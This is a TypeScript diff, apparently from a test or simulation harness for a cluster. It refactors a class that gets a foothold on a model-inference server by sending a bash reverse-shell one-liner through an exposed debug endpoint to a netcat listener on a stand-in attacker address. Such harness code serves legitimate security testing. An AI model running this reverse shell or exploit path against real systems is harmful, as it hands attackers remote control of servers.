@@ -6,6 +6,8 @@ import type { Cluster } from '../cluster/cluster.ts'
 import type { Program } from '../cluster/program.ts'
 
 const LISTENER_PORT = 4444
+/** Where the attacker waits for shells. */
+export const LISTENER = `${ATTACKER_ADDRESS}/${LISTENER_PORT}`
 const HOLE = `http://${addressOf('inference')}:${PORTS.inference}/debug/run`
 
 /** Makes the model server run a command: one request from outside. */
@@ -24,13 +26,17 @@ export class Foothold {
   }
 
   /** A reverse shell: bash with its standard streams on a connection to the attacker. */
-  static async open(cluster: Cluster): Promise<Foothold> {
+  static open(cluster: Cluster): Promise<Foothold> {
+    return Foothold.by(cluster, `exec bash -c 'exec bash -i >& /dev/tcp/${LISTENER} 0>&1'`)
+  }
+
+  /** The shell that a command, run through the hole, opens to LISTENER. */
+  static async by(cluster: Cluster, command: string): Promise<Foothold> {
     const listener = cluster.node('outside').start(
       ['nc', '-v', '-l', ATTACKER_ADDRESS, String(LISTENER_PORT)],
       { unit: 'attacker', input: true })
     await listener.says(/Listening on/, 'stderr')
-    await throughHole(cluster,
-      `exec bash -c 'exec bash -i >& /dev/tcp/${ATTACKER_ADDRESS}/${LISTENER_PORT} 0>&1'`)
+    await throughHole(cluster, command)
     await listener.says(/Connection received/, 'stderr')
     return new Foothold(listener)
   }
